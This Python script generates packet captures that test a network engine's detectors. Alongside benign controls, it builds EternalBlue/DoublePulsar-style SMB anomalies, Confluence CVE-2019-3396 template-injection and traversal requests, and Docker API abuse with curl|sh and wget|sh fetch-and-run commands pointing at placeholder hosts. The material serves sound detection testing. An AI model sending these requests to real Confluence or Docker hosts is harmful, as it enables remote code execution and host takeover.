#!/usr/bin/env python3
"""gen_net_app.py OUTDIR — captures for the network engine's SMB and HTTP
parsers and detectors, built from protocol fields with benign bytes (no
shellcode, no exploit payload: the fields that make a message anomalous
are set, the data is filler).

  smb_eternalblue.pcap   SMB1 negotiate/session/tree, Trans2 SESSION_SETUP
                         (0x000e) -> NOT_IMPLEMENTED, NT Trans (function 0,
                         TotalDataCount 66512), 12 TRANS2_SECONDARY on the
                         same MID (4153-byte frames split over 1460-byte
                         segments, two messages sharing a segment), an
                         echo carrying a short token
  smb_doublepulsar.pcap  Trans2 SESSION_SETUP MID 65 with a timeout code,
                         reply MID 81 STATUS_NOT_IMPLEMENTED
  smb_romance.pcap       a Trans request announcing 100 data bytes and a
                         Trans secondary writing 50 bytes at displacement 80
  smb_normal.pcap        a normal SMB1 session (NTLMSSP login "alice", tree
                         connect, Trans2 QUERY_FS_INFORMATION, echo): silent
  smb2_logon.pcap        SMB2 NTLMSSP logins: 3 x "bob" STATUS_LOGON_FAILURE,
                         then "bob" success (on port 445, 4 flows)
  http_auth.pcap         HTTP Basic "admin" 401 then 200 (password with a
                         colon), Digest "carol" 401
  confluence_rce.pcap    CVE-2019-3396 preview, remote ftp://.../cmd.vm
                         template with a "cmd" parameter
  confluence_traversal.pcap  _template "../web.xml"
  confluence_benign.pcap     widget preview without _template: silent
  docker_hostroot.pcap   docker API create from 203.0.113.50 with Binds
                         "/:/mnt", Privileged, Cmd chroot /mnt + curl|sh;
                         then start
  docker_benign.pcap     docker CLI on loopback: _ping, create busybox
                         /bin/sh with Binds null, start: silent
  docker_exec.pcap       external exec of "sh -c wget ...|sh" and image pull
"""
import json
import os
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from netlib import Conv, ether, write, http_post, http_ok, http_get  # noqa: E402

out = sys.argv[1]
os.makedirs(out, exist_ok=True)


def p(name):
    return os.path.join(out, name)


def nbss(msg):
    return struct.pack(">I", len(msg)) + msg


def smb1(cmd, mid, words=b"", data=b"", status=0, response=False, flags2=0xc807,
         tid=0x800, pid=0xfeff, uid=0x800):
    flags = 0x18 | (0x80 if response else 0)
    hdr = (b"\xffSMB" + bytes([cmd]) + struct.pack("<IBH", status, flags, flags2) +
           struct.pack("<H8sH", 0, b"\0" * 8, 0) + struct.pack("<HHHH", tid, pid, uid, mid))
    assert len(words) % 2 == 0
    return hdr + bytes([len(words) // 2]) + words + struct.pack("<H", len(data)) + data


def trans2_req(mid, subcmd, params=b"", data=b"", timeout=0, total_data=None):
    # 15 words; parameters right after the bytes' pad
    poff = 32 + 1 + 30 + 2 + 1
    doff = poff + len(params)
    words = struct.pack("<HHHHBBHIHHHHHBBH", len(params),
                        len(data) if total_data is None else total_data, 1, 0, 0, 0, 0,
                        timeout, 0, len(params), poff, len(data), doff, 1, 0, subcmd)
    return smb1(0x32, mid, words, b"\0" + params + data)


def trans2_resp(mid, status, params=b"", data=b""):
    if status:
        return smb1(0x32, mid, b"", b"", status=status, response=True)
    words = struct.pack("<HHHHHHHHHBB", len(params), len(data), 0, len(params), 56,
                        0, len(data), 56 + len(params), 0, 0, 0)
    return smb1(0x32, mid, words, b"\0" + params + data, response=True)


def ntlmssp_auth(user, domain="WORKGROUP", ws="HOST1"):
    u = user.encode("utf-16le")
    d = domain.encode("utf-16le")
    w = ws.encode("utf-16le")
    lm = b"\0" * 24
    nt = b"\x11" * 24
    off = 64
    fields = b""
    payload = b""
    for blob in (lm, nt, d, u, w):
        fields += struct.pack("<HHI", len(blob), len(blob), off + len(payload))
        payload += blob
    # LM, NT, Domain, User, Workstation in that order in the header
    hdr = b"NTLMSSP\0" + struct.pack("<I", 3)
    lm_f, nt_f, d_f, u_f, w_f = [fields[i * 8:(i + 1) * 8] for i in range(5)]
    hdr += lm_f + nt_f + d_f + u_f + w_f + struct.pack("<HHI", 0, 0, off + len(payload))
    hdr += struct.pack("<I", 0xe2088215)
    assert len(hdr) == 64
    return hdr + payload


def session_setup1(mid, user):
    blob = ntlmssp_auth(user)
    words = struct.pack("<BBHHHHIHII", 0xff, 0, 0, 4356, 50, 0, 0, len(blob), 0, 0x800000d4)
    return smb1(0x73, mid, words, blob)


def negotiate1():
    return smb1(0x72, 0, b"", b"\x02NT LM 0.12\0")


def negotiate1_resp():
    return smb1(0x72, 0, b"\x00\x00" + b"\0" * 32, b"\0" * 16, response=True)


def simple_resp(cmd, mid, status=0):
    return smb1(cmd, mid, b"", b"", status=status, response=True)


def smb_session(c, msgs):
    """msgs: list of (dir, smb message bytes); each NetBIOS-framed, sent alone."""
    for d, m in msgs:
        c.send(d, nbss(m))


# ---- EternalBlue-like exchange ----
c = Conv("192.0.2.10", "192.0.2.20", 49200, 445).handshake()
smb_session(c, [
    (0, negotiate1()), (1, negotiate1_resp()),
    (0, session_setup1(64, "")), (1, simple_resp(0x73, 64)),
    (0, smb1(0x75, 64, struct.pack("<BBHHH", 0xff, 0, 0, 0, 1),
             b"\0" + "\\\\192.0.2.20\\IPC$".encode("utf-16le") + b"\0\0?????\0")),
    (1, simple_resp(0x75, 64)),
    (0, trans2_req(65, 0x000e, params=b"\0" * 12)),
    (1, trans2_resp(65, 0xc0000002)),
])
# NT Trans, function 0, an oversized total data count
nt_params = b"\0" * 30
nt_data = b"\0" * 976
poff = 32 + 1 + 40 + 2 + 3
nt_words = struct.pack("<BHIIIIIIIIBHH", 1, 0, len(nt_params), 66512, 30, 0, len(nt_params), poff,
                       len(nt_data), poff + len(nt_params), 1, 0, 0)
c.send(0, nbss(smb1(0xa0, 65, nt_words, b"\0\0\0" + nt_params + nt_data)))
c.send(1, nbss(simple_resp(0xa0, 65)))
# the secondary train: 12 x 4153-byte messages, streamed in 1460-byte segments
train = b""
for i in range(12):
    data = bytes([0x41 + i]) * 4096
    words = struct.pack("<HHHHHHHHH", 0, 65535, 0, 0, 0, len(data), 32 + 1 + 18 + 2, i * 4096, 0)
    train += nbss(smb1(0x33, 65, words, data))
c.send(0, train, mss=1460)
c.send(0, nbss(smb1(0x2b, 65, b"\x01\x00", b"QwErTyUiOpA\0")))
c.send(1, nbss(smb1(0x2b, 65, b"\x01\x00", b"QwErTyUiOpA\0", response=True)))
c.close()
write(p("smb_eternalblue.pcap"), ether(c.pkts))

# ---- DoublePulsar ping and reply ----
c = Conv("192.0.2.11", "192.0.2.21", 49300, 445).handshake()
smb_session(c, [
    (0, negotiate1()), (1, negotiate1_resp()),
    (0, session_setup1(64, "")), (1, simple_resp(0x73, 64)),
    (0, trans2_req(65, 0x000e, params=b"\0" * 12, timeout=0x00edbf77)),
    (1, trans2_resp(81, 0xc0000002)),
])
c.close()
write(p("smb_doublepulsar.pcap"), ether(c.pkts))

# ---- EternalRomance/Champion-style transaction anomalies ----
def trans_req(mid, total_data, data):
    poff = 32 + 1 + 28 + 2 + 2 + 1
    words = struct.pack("<HHHHBBHIHHHHHBB", 0, total_data, 0, 1024, 0, 0, 0, 0, 0, 0, poff,
                        len(data), poff, 1, 0) + b"\x26\x00"
    return smb1(0x25, mid, words, b"\0" + data)


def trans_secondary(mid, total_data, disp, data):
    doff = 32 + 1 + 16 + 2 + 1
    words = struct.pack("<HHHHHHHH", 0, total_data, 0, 0, 0, len(data), doff, disp)
    return smb1(0x26, mid, words, b"\0" + data)


c = Conv("192.0.2.14", "192.0.2.24", 49600, 445).handshake()
smb_session(c, [
    (0, negotiate1()), (1, negotiate1_resp()),
    (0, session_setup1(64, "")), (1, simple_resp(0x73, 64)),
    (0, trans_req(70, 100, b"\x01" * 50)),
    # displacement 80 + 50 bytes runs past the announced total of 100
    (0, trans_secondary(70, 100, 80, b"\x02" * 50)),
])
c.close()
write(p("smb_romance.pcap"), ether(c.pkts))

# ---- a normal SMB1 session ----
c = Conv("192.0.2.12", "192.0.2.22", 49400, 445).handshake()
smb_session(c, [
    (0, negotiate1()), (1, negotiate1_resp()),
    (0, session_setup1(64, "alice")), (1, simple_resp(0x73, 64)),
    (0, smb1(0x75, 65, struct.pack("<BBHHH", 0xff, 0, 0, 0, 1),
             b"\0" + "\\\\SRV\\SHARE".encode("utf-16le") + b"\0\0A:\0")),
    (1, simple_resp(0x75, 65)),
    (0, trans2_req(66, 0x0003, params=b"\x05\x01")),
    (1, trans2_resp(66, 0, params=b"", data=b"\0" * 24)),
    (0, smb1(0x2b, 67, b"\x01\x00", b"\xaa" * 16)),
    (1, smb1(0x2b, 67, b"\x01\x00", b"\xaa" * 16, response=True)),
])
c.close()
write(p("smb_normal.pcap"), ether(c.pkts))


# ---- SMB2 logins ----
def smb2(cmd, msgid, body, status=0, response=False, session=0x1000):
    flags = 1 if response else 0
    hdr = (b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ", 64, 1, status, cmd, 1, flags, 0, msgid, 0, 0,
                                    session) + b"\0" * 16)
    assert len(hdr) == 64
    return hdr + body


def smb2_sess_req(msgid, blob):
    body = struct.pack("<HBBIIHHQ", 25, 0, 1, 1, 0, 64 + 24, len(blob), 0) + blob
    return smb2(1, msgid, body)


def smb2_sess_resp(msgid, status):
    body = struct.pack("<HHHH", 9, 0, 72, 0)
    return smb2(1, msgid, body, status=status, response=True)


pk = []
for i, status in enumerate([0xc000006d, 0xc000006d, 0xc000006d, 0]):
    c = Conv("192.0.2.13", "192.0.2.23", 49500 + i, 445, t0=1700000100.0 + i).handshake()
    c.send(0, nbss(smb2(0, 0, struct.pack("<HHHHI16sIHH", 36, 1, 1, 0, 0, b"\0" * 16, 0, 0, 0) +
                        b"\x02\x02")))
    c.send(1, nbss(smb2(0, 0, b"\x41\x00" + b"\0" * 62, response=True)))
    c.send(0, nbss(smb2_sess_req(1, b"NTLMSSP\0\x01\0\0\0" + b"\0" * 24)))
    c.send(1, nbss(smb2_sess_resp(1, 0xc0000016)))
    c.send(0, nbss(smb2_sess_req(2, ntlmssp_auth("bob"))))
    c.send(1, nbss(smb2_sess_resp(2, status)))
    c.close()
    pk += c.pkts
write(p("smb2_logon.pcap"), ether(pk))


# ---- HTTP Basic and Digest logins: 401, then 200 ----
import base64  # noqa: E402
c = Conv("192.0.2.15", "192.0.2.25", 49700, 8000).handshake()
for i, (user, pw, status) in enumerate([("admin", "x", 401), ("admin", "y:z", 200)]):
    tok = base64.b64encode((user + ":" + pw).encode())
    c.send(0, http_get("/private/%d" % i, extra=b"Authorization: Basic " + tok + b"\r\n"))
    if status == 401:
        c.send(1, b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"\r\n"
               b"Content-Length: 0\r\n\r\n")
    else:
        c.send(1, http_ok(b"welcome"))
c.send(0, http_get("/digest", extra=b'Authorization: Digest username="carol", realm="x", '
                                     b'nonce="1", uri="/digest", response="00"\r\n'))
c.send(1, b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n")
c.close()
write(p("http_auth.pcap"), ether(c.pkts))

# ---- Confluence CVE-2019-3396 ----
def preview(template=None, extra=None):
    params = {"url": "https://www.youtube.com/watch?v=dQw4w9WgXcQ", "width": "1000",
              "height": "1000"}
    if template is not None:
        params["_template"] = template
    if extra:
        params.update(extra)
    return json.dumps({"contentId": "786457", "macro": {"name": "widget", "body": "",
                                                          "params": params}}).encode()


for name, body in [("confluence_rce.pcap", preview("ftp://198.51.100.7/cmd.vm", {"cmd": "id"})),
                   ("confluence_traversal.pcap", preview("../web.xml")),
                   ("confluence_benign.pcap", preview())]:
    c = Conv("198.51.100.30", "10.9.0.5", 51000, 8090).handshake()
    c.send(0, http_post("/rest/tinymce/1/macro/preview", body, host="wiki.example.test:8090",
                        extra=b"Referer: http://wiki.example.test:8090/pages/resumedraft.action\r\n"))
    c.send(1, http_ok(b"<p>preview</p>"))
    c.close()
    write(p(name), ether(c.pkts))


# ---- Docker Engine API ----
def create_body(image, cmd, binds=None, privileged=False):
    return json.dumps({"Hostname": "", "User": "", "AttachStdin": False, "Tty": False,
                       "Cmd": cmd, "Image": image, "Entrypoint": None,
                       "HostConfig": {"Binds": binds, "NetworkMode": "default",
                                      "Privileged": privileged, "CapAdd": None}}).encode()


cid = "4f6c1e2d3b4a59687766554433221100ffeeddccbbaa99887766554433221100"
c = Conv("203.0.113.50", "10.9.0.6", 52000, 2375).handshake()
c.send(0, http_post("/v1.41/containers/create",
                    create_body("alpine", ["chroot", "/mnt", "sh", "-c",
                                           "curl -s http://203.0.113.9/x.sh | sh"],
                                binds=["/:/mnt"], privileged=True), host="10.9.0.6:2375"))
c.send(1, b"HTTP/1.1 201 Created\r\nContent-Type: application/json\r\nContent-Length: 88\r\n\r\n" +
       json.dumps({"Id": cid, "Warnings": []}).encode().ljust(88))
c.send(0, http_post("/v1.41/containers/" + cid + "/start", b"", host="10.9.0.6:2375"))
c.send(1, b"HTTP/1.1 204 No Content\r\n\r\n")
c.close()
write(p("docker_hostroot.pcap"), ether(c.pkts))

c = Conv("127.0.0.1", "127.0.0.1", 52100, 2375).handshake()
c.send(0, b"HEAD /_ping HTTP/1.1\r\nHost: 127.0.0.1:2375\r\nUser-Agent: Docker-Client/27.3.1 (linux)\r\n\r\n")
c.send(1, b"HTTP/1.1 200 OK\r\nApi-Version: 1.47\r\nContent-Length: 2\r\n\r\n")
c.send(0, http_post("/v1.47/containers/create", create_body("busybox", ["/bin/sh"]),
                    host="127.0.0.1:2375"))
c.send(1, b"HTTP/1.1 201 Created\r\nContent-Length: 2\r\n\r\n{}")
c.send(0, http_post("/v1.47/containers/" + cid + "/start", b"", host="127.0.0.1:2375"))
c.send(1, b"HTTP/1.1 204 No Content\r\n\r\n")
c.close()
write(p("docker_benign.pcap"), ether(c.pkts))

c = Conv("203.0.113.51", "10.9.0.7", 52200, 2376).handshake()
c.send(0, http_post("/images/create?fromImage=example/miner&tag=latest", b"",
                    host="10.9.0.7:2376"))
c.send(1, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}")
c.send(0, http_post("/v1.41/containers/" + cid + "/exec",
                    json.dumps({"Cmd": ["sh", "-c", "wget -qO- http://203.0.113.9/m.sh | sh"],
                                "AttachStdout": True}).encode(), host="10.9.0.7:2376"))
c.send(1, b"HTTP/1.1 201 Created\r\nContent-Length: 2\r\n\r\n{}")
c.close()
write(p("docker_exec.pcap"), ether(c.pkts))
